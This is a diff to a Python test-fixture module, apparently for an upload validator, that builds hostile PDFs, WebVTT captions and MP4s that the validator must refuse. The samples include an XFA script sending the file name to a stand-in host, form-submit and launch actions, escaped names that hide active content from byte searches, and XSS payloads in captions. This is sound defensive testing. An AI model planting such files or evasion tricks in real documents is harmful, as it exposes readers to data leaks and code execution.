@@ -29,14 +29,17 @@ def jpeg_with_gps() -> bytes:
     return image_bytes("JPEG", exif=exif.tobytes())
 
 
-def pdf_bytes(*extra: bytes, open_action: bytes = b"") -> bytes:
+def pdf_bytes(
+    *extra: bytes, open_action: bytes = b"", catalog: bytes = b"", pages: bytes = b"", page=b""
+) -> bytes:
     """A one-page PDF with a cross-reference table, as scanners and printers write them; extra
-    objects follow the page, and open_action names the object to run when it opens."""
+    objects follow the page (numbered from 4), open_action names what runs when it opens, and
+    catalog, pages and page add entries to those three dictionaries."""
     action = b" /OpenAction %s" % open_action if open_action else b""
     objects = [
-        b"<< /Type /Catalog /Pages 2 0 R" + action + b" >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+        b"<< /Type /Catalog /Pages 2 0 R" + action + b" " + catalog + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 " + pages + b" >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>",
         *extra,
     ]
     out, offsets = bytearray(b"%PDF-1.4\n"), []
@@ -49,6 +52,16 @@ def pdf_bytes(*extra: bytes, open_action: bytes = b"") -> bytes:
     out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
     out += b"startxref\n%d\n%%%%EOF\n" % xref
     return bytes(out)
+
+
+def pdf_stream(content: bytes, entries: bytes = b"") -> bytes:
+    """A compressed stream object: its words never appear in the file's bytes."""
+    packed = zlib.compress(content)
+    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
+        entries,
+        len(packed),
+        packed,
+    )
 
 
 PDF = pdf_bytes()
@@ -82,6 +95,138 @@ def pdf_with_object_stream(hidden: bytes) -> bytes:
     out += b"stream\n" + table + b"\nendstream\nendobj\n"
     out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
     return bytes(out)
+
+
+XFA_WITH_SCRIPT = (
+    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
+    b'<event activity="initialize"><script contentType="application/x-javascript">'
+    b'app.launchURL("https://collect.example/?" + this.documentFileName);</script></event>'
+    b"</subform></template></xdp:xdp>"
+)
+
+
+def hostile_pdfs() -> dict[str, bytes]:
+    """Name -> bytes of evidence PDFs with active content, which evidence must refuse: each of
+    the kinds a PDF reader acts on, hidden the ways a search of the raw bytes misses."""
+    uri = b"<< /S /URI /URI (https://collect.example/) >>"
+    return {
+        "javascript opening action": pdf_bytes(
+            b"<< /S /JavaScript /JS (app.alert(1)) >>", open_action=b"4 0 R"
+        ),
+        "xfa form with script": pdf_bytes(
+            b"<< /Fields [] /XFA 5 0 R >>", pdf_stream(XFA_WITH_SCRIPT), catalog=b"/AcroForm 4 0 R"
+        ),
+        "xfa named in escapes": pdf_bytes(
+            b"<< /Fields [] /X#46A 5 0 R >>",
+            pdf_stream(XFA_WITH_SCRIPT),
+            catalog=b"/AcroForm 4 0 R",
+        ),
+        "opening action to a web address": pdf_bytes(uri, open_action=b"4 0 R"),
+        "opening web address in an object stream": pdf_with_object_stream(uri),
+        "opening action submitting a form": pdf_bytes(
+            b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> /Flags 4 >>",
+            open_action=b"4 0 R",
+        ),
+        "submit form in an object stream": pdf_with_object_stream(
+            b"<< /S /Subm#69tForm /F << /FS /URL /F (https://collect.example/) >> >>"
+        ),
+        "opening action importing data": pdf_bytes(
+            b"<< /S /ImportData /F (data.fdf) >>", open_action=b"4 0 R"
+        ),
+        "opening action to another file": pdf_bytes(
+            b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", open_action=b"4 0 R"
+        ),
+        "opening action to an embedded file": pdf_bytes(
+            b"<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>", open_action=b"4 0 R"
+        ),
+        "named opening action": pdf_bytes(b"<< /S /Named /N /Print >>", open_action=b"4 0 R"),
+        "additional actions on the catalog": pdf_bytes(
+            b"<< /S /Named /N /Print >>", catalog=b"/AA << /WC 4 0 R >>"
+        ),
+        "additional actions inherited from the page tree": pdf_bytes(
+            b"<< /S /Named /N /Print >>", pages=b"/AA << /O 4 0 R >>"
+        ),
+        "link annotation to a web address": pdf_bytes(
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 20] /A %s >>" % uri,
+            page=b"/Annots [4 0 R]",
+        ),
+        "attached file": pdf_bytes(
+            b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
+            pdf_stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
+            catalog=b"/Names << /Embedded#46iles << /Names [(run.exe) 4 0 R] >> >>",
+        ),
+        "rich media annotation": pdf_bytes(
+            b"<< /Type /Annot /Subtype /R#69chMedia /Rect [0 0 200 20] >>",
+            page=b"/Annots [4 0 R]",
+        ),
+        "launch action no page reaches": pdf_bytes(b"<< /S /L#61unch /F (calc.exe) >>"),
+    }
+
+
+def plain_pdfs() -> dict[str, bytes]:
+    """Name -> bytes of evidence PDFs that only show pages, which evidence accepts."""
+    return {
+        "cross-reference table": PDF,
+        "opening on a page": pdf_bytes(open_action=b"[3 0 R /Fit]"),
+        "opening on a page by a go-to in an object stream": pdf_with_object_stream(
+            b"<< /S /GoTo /D [3 0 R /FitH 792] >>"
+        ),
+        "link to a page": pdf_bytes(
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 20] /Dest [3 0 R /Fit] >>",
+            page=b"/Annots [4 0 R]",
+        ),
+    }
+
+
+def hostile_captions() -> dict[str, bytes]:
+    """Name -> bytes of WebVTT files holding markup that is not WebVTT's own."""
+    cue = b"WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n%s\n"
+    return {
+        "image with onerror": cue % b'Hello <img src=x onerror="alert(1)">',
+        "script": cue % b"<script>alert(1)</script>",
+        "iframe": cue % b'<iframe src="https://collect.example/"></iframe>',
+        "link with javascript": cue % b'<a href="javascript:alert(1)">more</a>',
+        "cue tag with an event handler": cue % b"<b onmouseover=alert(1)>Hello</b>",
+        "voice with an event handler": cue % b'<v Sam" onclick="alert(1)>Hello</v>',
+        "svg": cue % b"<svg onload=alert(1)>",
+        "markup in a note": b"WEBVTT\n\nNOTE <img src=x onerror=alert(1)>\n\n"
+        b"00:00:00.000 --> 00:00:02.000\nHello\n",
+    }
+
+
+# WebVTT's own cue tags, all of them: accepted as they are.
+VTT_WITH_CUE_TAGS = (
+    "WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n<v Dr. Lee>Hello, <i>welcome</i>.</v>\n\n"
+    "00:00:02.000 --> 00:00:04.000\n<c.yellow.bg_blue>Anxiety</c> &lt; <b>calm</b> <u>now</u>\n\n"
+    "00:00:04.000 --> 00:00:06.000\n<lang fr-CA>Bonjour</lang> <ruby>漢<rt>kan</rt></ruby>\n"
+    "<00:00:05.000>and <00:05.500>more\n"
+).encode()
+
+
+def mp4_box(kind: bytes, payload: bytes = b"", *, large=False, to_end=False) -> bytes:
+    """An ISO BMFF box: its size and type; or size 1 and a 64-bit size after the type; or size 0,
+    which says the box runs to the end of the file."""
+    if large:
+        return struct.pack(">I4sQ", 1, kind, 16 + len(payload)) + payload
+    return struct.pack(">I4s", 0 if to_end else 8 + len(payload), kind) + payload
+
+
+def hostile_videos() -> dict[str, tuple[bytes, str]]:
+    """Name -> (bytes, what the refusal says) of MP4 files carrying more than their boxes."""
+    mp4 = mp4_bytes(seconds=1)
+    return {
+        "mp4 with html appended": (
+            mp4 + b"<html><body><script>alert(1)</script></body></html>",
+            "extra data after its end",
+        ),
+        "mp4 with a doctype appended": (
+            mp4 + b"<!doctype html><p>not a video</p>",
+            "extra data after its end",
+        ),
+        "mp4 with a few bytes appended": (mp4 + b"\x00\x01", "extra data after its end"),
+        "mp4 with a zip appended": (mp4 + b"PK\x03\x04" + b"\x00" * 40, "extra data after its end"),
+        "mp4 cut short": (mp4[:-10], "This video is incomplete"),
+    }
 
 
 def png_chunk(kind: bytes, data: bytes) -> bytes:
